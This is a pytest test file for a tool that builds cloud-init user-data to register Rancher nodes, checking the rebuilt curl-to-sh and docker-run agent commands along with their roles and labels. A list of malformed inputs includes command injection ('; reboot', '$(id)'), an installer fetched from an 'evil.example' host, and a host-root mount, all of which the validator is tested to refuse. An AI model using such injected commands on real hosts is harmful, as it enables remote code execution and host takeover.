"""Cloud-init user-data for Rancher 2.x nodes: Rancher's node command rebuilt, roles, labels."""

from __future__ import annotations

import dataclasses
import os
import shlex
import shutil
import subprocess

import pytest
import yaml

from commands.options import parse_host_options
from commands.userdata import (
    DAEMON_JSON_PATH,
    DEFAULT_AGENT_IMAGE,
    DEFAULT_RKE1_DOCKER_INSTALL_URL,
    HOST_LABEL,
    LAUNCH_LABEL,
    PUBLIC_IP_LOOKUP,
    AgentRegistration,
    NodeCommand,
    check_node_command,
    encode_user_data,
    render_user_data,
)

LAUNCH = "1a2b3c4d"
IP = "203.0.113.7"
SERVER = "https://rancher.example.com"
TOKEN = "bnzdndvvjcmrj5n54m78xl9rbmm4wfzrbzsmn487nncwql4ktbxllq"
CHECKSUM = "ce4d8ca6f04ae23b840de4038c30df5f025be1f99194d0bc5dcfd592d9071e5c"
# The shapes Rancher writes (rancher/rancher clusterregistrationtoken formatters), spaces and all.
RKE2_COMMAND = (
    f" curl -fL {SERVER}/system-agent-install.sh | sudo  sh -s - --server {SERVER} "
    f"--label 'cattle.io/os=linux' --token {TOKEN} --ca-checksum {CHECKSUM}"
)
RKE1_COMMAND = (
    "sudo docker run -d --privileged --restart=unless-stopped --net=host "
    "-v /etc/kubernetes:/etc/kubernetes -v /var/run:/var/run  rancher/rancher-agent:v2.9.2 "
    f"--server {SERVER} --token {TOKEN} --ca-checksum {CHECKSUM}"
)
RKE2 = NodeCommand("rke2", RKE2_COMMAND)
K3S = NodeCommand("k3s", RKE2_COMMAND)
RKE1 = NodeCommand("rke1", RKE1_COMMAND)


def options(**values):
    form = {"name": "web", "count": "3", "cluster": "c-m-abc12", "roles": "etcd,worker"}
    return parse_host_options({**form, **values}, max_hosts=20)


def render(opts=None, *, node=RKE2, index=1):
    return render_user_data(opts or options(), launch_id=LAUNCH, index=index, agent=node)


def node_argv(text):
    """The last runcmd entry as the Exoscale sandbox sees it: lookup replaced, shlex-split."""
    assert text.startswith("#cloud-config\n")
    last = yaml.safe_load(text)["runcmd"][-1]
    assert last[:2] == ["sh", "-c"] and len(last) == 3
    return shlex.split(last[2].replace(PUBLIC_IP_LOOKUP, IP))


def values_of(argv, flag):
    return [argv[i + 1] for i, word in enumerate(argv) if word == flag]


BOT_LABELS = [f"{LAUNCH_LABEL}={LAUNCH}", f"{HOST_LABEL}={LAUNCH}-2"]


@pytest.mark.parametrize("node", [RKE2, K3S], ids=["rke2", "k3s"])
def test_rke2_and_k3s_nodes_run_the_installer_with_roles_address_and_labels(node):
    argv = node_argv(render(options(labels="tier=web"), node=node, index=2))

    assert argv == [
        "curl",
        "-fL",
        f"{SERVER}/system-agent-install.sh",
        "|",
        "sh",
        "-s",
        "-",
        "--server",
        SERVER,
        "--label",
        "cattle.io/os=linux",
        "--token",
        TOKEN,
        "--ca-checksum",
        CHECKSUM,
        "--etcd",
        "--worker",
        "--address",
        IP,
        "--label",
        "tier=web",
        "--label",
        BOT_LABELS[0],
        "--label",
        BOT_LABELS[1],
    ]


@pytest.mark.parametrize("node", [RKE2, K3S], ids=["rke2", "k3s"])
def test_rke2_and_k3s_nodes_install_no_docker(node):
    document = yaml.safe_load(render(node=node))
    assert "write_files" not in document
    assert len(document["runcmd"]) == 1
    assert "docker" not in document["runcmd"][0][2]


def test_rke1_nodes_install_docker_then_run_the_agent_with_roles_and_labels():
    opts = options(roles="controlplane", labels="tier=web", engine_opt="debug=true")
    text = render(opts, node=RKE1, index=2)
    document = yaml.safe_load(text)

    assert document["runcmd"][0] == [
        "sh",
        "-c",
        f"curl -fsSL {DEFAULT_RKE1_DOCKER_INSTALL_URL} | sh",
    ]
    assert document["write_files"][0]["path"] == DAEMON_JSON_PATH
    assert '"debug": true' in document["write_files"][0]["content"]
    argv = node_argv(text)
    assert argv[:2] == ["docker", "run"]
    assert "sudo" not in argv
    image_at = argv.index("rancher/rancher-agent:v2.9.2")
    assert argv[2:image_at] == [
        "-d",
        "--privileged",
        "--restart=unless-stopped",
        "--net=host",
        "-v",
        "/etc/kubernetes:/etc/kubernetes",
        "-v",
        "/var/run:/var/run",
    ]
    assert argv[image_at + 1 :] == [
        "--server",
        SERVER,
        "--token",
        TOKEN,
        "--ca-checksum",
        CHECKSUM,
        "--controlplane",
        "--address",
        IP,
        "--label",
        "tier=web",
        "--label",
        BOT_LABELS[0],
        "--label",
        BOT_LABELS[1],
    ]


def test_all_three_roles_are_appended_in_rancher_order():
    argv = node_argv(render(options(roles="worker,controlplane,etcd")))
    flags = [w for w in argv if w in ("--etcd", "--controlplane", "--worker")]
    assert flags == ["--etcd", "--controlplane", "--worker"]


def test_engine_options_are_refused_for_nodes_without_docker():
    with pytest.raises(ValueError, match="engine options configure Docker"):
        render(options(engine_opt="debug=true"), node=RKE2)


def test_rancher_agent_env_vars_stay_assignments_on_both_sides_of_the_pipe():
    command = RKE2_COMMAND.replace(" curl", "HTTPS_PROXY=http://proxy:3128 curl").replace(
        "sudo  sh", "sudo HTTPS_PROXY=http://proxy:3128 sh"
    )
    line = yaml.safe_load(render(node=NodeCommand("rke2", command)))["runcmd"][-1][2]
    assert line.startswith("HTTPS_PROXY=http://proxy:3128 curl -fL ")
    assert "| HTTPS_PROXY=http://proxy:3128 sh -s - " in line


def test_the_node_command_repr_hides_the_token():
    assert TOKEN not in repr(RKE2)


MALFORMED = [
    ("rke2", "kubectl apply -f https://rancher.example.com/v3/import/x.yaml", "not 'curl"),
    ("rke2", RKE2_COMMAND + "; reboot", "shell syntax"),
    ("rke2", RKE2_COMMAND.replace(TOKEN, "$(id)"), "shell syntax"),
    ("rke2", RKE2_COMMAND.replace("-fL", "--insecure -fL"), "curl -fL URL"),
    ("rke2", RKE2_COMMAND.replace("system-agent-install.sh", "evil.sh"), "not system-agent"),
    (
        "rke2",
        RKE2_COMMAND.replace(f"curl -fL {SERVER}", "curl -fL https://evil.example"),
        "another",
    ),
    ("rke2", RKE2_COMMAND.replace(f"--token {TOKEN}", ""), "no --token"),
    ("rke2", RKE2_COMMAND.replace("sh -s -", "bash -s -"), "sh -s -"),
    ("rke2", RKE2_COMMAND + " --etcd", "'--etcd' where it never has one"),
    ("rke2", RKE2_COMMAND + " --token other", "--token twice"),
    ("rke2", RKE2_COMMAND.replace(CHECKSUM, "abc"), "not a SHA-256"),
    ("rke2", RKE2_COMMAND + " | sh", "not 'curl"),
    ("rke2", RKE1_COMMAND, "not 'curl"),
    ("rke1", RKE2_COMMAND, "not a 'docker run'"),
    ("rke1", RKE1_COMMAND.replace("rancher/rancher-agent", "evil/agent"), "not rancher/rancher"),
    ("rke1", RKE1_COMMAND.replace("--privileged ", ""), "--privileged"),
    ("rke1", RKE1_COMMAND.replace("-d ", "--rm --entrypoint=sh "), "docker option '--rm'"),
    ("rke1", RKE1_COMMAND.replace("-v /var/run:/var/run", "-v /:/host"), "mounts '/:/host'"),
    ("rke1", RKE1_COMMAND.replace("-v /var/run:/var/run", "-v /var/run"), "mounts '/var/run'"),
    ("rke1", RKE1_COMMAND.replace(f"--server {SERVER}", "--server ftp://x"), "--server URL"),
    ("rke1", RKE1_COMMAND + " --label a=b", "'--label' where it never has one"),
    ("rke1", "sudo docker run 'unterminated", "not valid shell"),
    ("rke3", RKE2_COMMAND, "cluster kind 'rke3'"),
    ("rke2", "", "empty"),
]


@pytest.mark.parametrize(("kind", "command", "message"), MALFORMED)
def test_a_malformed_rancher_command_is_refused(kind, command, message):
    node = NodeCommand(kind, command)
    with pytest.raises(ValueError, match=message):
        check_node_command(node)
    with pytest.raises(ValueError):
        render(node=node)


@pytest.mark.parametrize("node", [RKE1, RKE2, K3S], ids=["rke1", "rke2", "k3s"])
def test_rancher_s_own_commands_pass_the_check(node):
    check_node_command(node)


def test_options_without_roles_cannot_render_a_node_command():
    plain = parse_host_options({"name": "web"}, max_hosts=5)
    with pytest.raises(ValueError, match="at least one role"):
        render_user_data(plain, launch_id=LAUNCH, index=1, agent=RKE2)


def test_options_for_a_cluster_cannot_render_a_1_6_agent():
    agent = AgentRegistration(DEFAULT_AGENT_IMAGE, "https://r.example/v1/scripts/T")
    with pytest.raises(ValueError, match="NodeCommand"):
        render_user_data(options(), launch_id=LAUNCH, index=1, agent=agent)


def test_labels_kubernetes_refuses_are_refused_at_render_too():
    bad = dataclasses.replace(options(), labels=(("tier", "web-"),))
    with pytest.raises(ValueError, match="Kubernetes refuses"):
        render(bad)


def test_a_full_2x_request_fits_in_exoscale_user_data():
    labels = ",".join(f"key{i}=value{i}" for i in range(60))
    opts = options(count="20", labels=labels, roles="etcd,controlplane,worker")
    for node in (RKE1, RKE2):
        encode_user_data(render(opts, node=node, index=20))


FAKE_CURL = """#!/bin/sh
printf '%s\\n' "$@" >> "$RECORD_DIR/curl"
case "$1" in
  -fL) echo 'printf "%s\\n" "$@" > "$RECORD_DIR/installer"' ;;
  *) echo 203.0.113.7 ;;
esac
"""


@pytest.mark.skipif(shutil.which("sh") is None, reason="needs a POSIX shell")
def test_running_the_line_hands_the_installer_exactly_these_arguments(tmp_path):
    line = yaml.safe_load(render(options(labels="tier=web"), index=3))["runcmd"][-1]
    bin_dir, work = tmp_path / "bin", tmp_path / "work"
    bin_dir.mkdir()
    work.mkdir()
    (bin_dir / "curl").write_text(FAKE_CURL)
    (bin_dir / "curl").chmod(0o755)
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ.get('PATH', '/usr/bin:/bin')}"}
    env["RECORD_DIR"] = str(tmp_path)

    done = subprocess.run(line, cwd=work, env=env, capture_output=True, text=True, timeout=10)

    assert done.returncode == 0, done.stderr
    assert list(work.iterdir()) == []
    installer_argv = (tmp_path / "installer").read_text().splitlines()
    assert installer_argv == [
        "--server",
        SERVER,
        "--label",
        "cattle.io/os=linux",
        "--token",
        TOKEN,
        "--ca-checksum",
        CHECKSUM,
        "--etcd",
        "--worker",
        "--address",
        IP,
        "--label",
        "tier=web",
        "--label",
        f"{LAUNCH_LABEL}={LAUNCH}",
        "--label",
        f"{HOST_LABEL}={LAUNCH}-3",
    ]
